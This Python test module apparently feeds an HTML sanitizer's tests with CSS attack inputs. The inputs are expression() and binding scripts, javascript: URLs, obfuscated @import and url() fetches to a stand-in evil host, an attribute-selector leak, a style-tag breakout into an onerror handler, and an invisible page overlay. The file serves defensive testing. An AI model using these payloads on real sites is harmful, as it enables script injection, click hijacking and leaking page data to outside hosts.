"""CSS: scripts of old browsers, fetches of all."""

from typing import Final

from tests.browser.attack import EVIL, HIT, attacks

_RED: Final = f"url({EVIL}/c.png)"

# Values of a style attribute.
_DECLARATIONS: Final = {
    "expression": f"width:expression({HIT})",
    "expression, upper case": f"WIDTH:EXPRESSION({HIT})",
    "expression, comment inside": f"width:exp/**/ression({HIT})",
    "expression, escape inside": f"width:e\\xpression({HIT})",
    "expression, escaped letters": f"width:\\65 xpr\\000065ssion({HIT})",
    "expression, entity inside": f"width:ex&#112;ression({HIT})",
    "expression, full width": f"width:\uff45xpression({HIT})",
    "expression, after a broken string": f"x:'\n;width:expression({HIT})",
    "binding": f"-moz-binding:url({EVIL}/b.xml#x)",
    "behavior": f"behavior:url({EVIL}/b.htc)",
    "behavior, timed": "behavior:url(#default#time2)",
    "javascript background": f"background:url(javascript:{HIT})",
    "javascript list style": f"list-style-image:url('javascript:{HIT}')",
    "link of Opera": f"-o-link:'javascript:{HIT}';-o-link-source:current",
    "background": f"background:{_RED}",
    "background, escaped name": f"background:\\75 rl({EVIL}/c.png)",
    "background, escaped address": "background:url(\\68ttp:\\/\\/evil.example/c.png)",
    "background, unclosed": f"background:url({EVIL}/c.png",
    "background, data": "background:url(data:image/svg+xml,<svg/>)",
    "image set": f"background:image-set('{EVIL}/c.png' 1x)",
    "border image": f"border:9px solid;border-image:{_RED} 1",
    "list style image": f"display:list-item;list-style-image:{_RED}",
    "cursor": f"cursor:{_RED},auto",
    "content": f"content:{_RED}",
    "mask": f"-webkit-mask-image:{_RED}",
    "filter": f"filter:url({EVIL}/f.svg#f)",
    "clip path": f"clip-path:url({EVIL}/p.svg#p)",
    "shape": f"float:left;shape-outside:{_RED}",
    "variable": f"--x:{_RED};background:var(--x)",
    "cover of the page": "position:fixed;inset:0;z-index:2147483647;opacity:0",
}

_SHEETS: Final = {
    "import": f"@import url({EVIL}/s.css);",
    "import, string": f'@import "{EVIL}/s.css";',
    "import, no host scheme": "@import '//evil.example/s.css'",
    "import, escaped": f"@\\69mport '{EVIL}/s.css';",
    "import, comments": f"@import/**/'{EVIL}/s.css'/**/;",
    "import, after cdo": f"<!-- @import '{EVIL}/s.css'; -->",
    "import, in a layer": f"@import url({EVIL}/s.css) layer(x) supports(color:red);",
    "import, javascript": f"@import 'javascript:{HIT}';",
    "font face": f"@font-face{{font-family:f;src:url({EVIL}/f.woff)}}*{{font-family:f}}",
    "background of everything": f"*{{background:{_RED}}}",
    "attribute read out": (
        f"a[href^='h']{{background:url({EVIL}/?h)}}</style><a href=https://example.org/>x</a><style>"
    ),
    "expression": f"p{{width:expression({HIT})}}",
    "binding": f"p{{-moz-binding:url({EVIL}/b.xml#x)}}",
    "end of style in a string": f"p::after{{content:'</style><img src=x onerror={HIT}>'}}",
    "charset": "@charset 'utf-7'; +ADw-script+AD4-",
}

_OTHERS: Final = {
    "style of a script type": f"<style type=text/javascript>{HIT}</style>",
    "style in a paragraph": f"<p><style>@import'{EVIL}/p.css'</style></p>",
    "style that is not closed": f"<style>@import'{EVIL}/u.css';",
    "style element, upper case": f"<STYLE>@IMPORT'{EVIL}/s.css'</STYLE>",
    "style attribute, quotes in entities": (
        f'<p style="background:url(&quot;{EVIL}/c.png&quot;)">x</p>'
    ),
    "presentation attribute": f"<svg><rect fill='url({EVIL}/p.svg#p)' width=9 height=9 /></svg>",
}

ATTACKS: Final = (
    *attacks(
        "css of an element",
        {name: f'<p style="{value}">x</p>' for name, value in _DECLARATIONS.items()},
    ),
    *attacks(
        "css of a sheet",
        {name: f"<style>{sheet}</style><p>x</p>" for name, sheet in _SHEETS.items()} | _OTHERS,
    ),
)
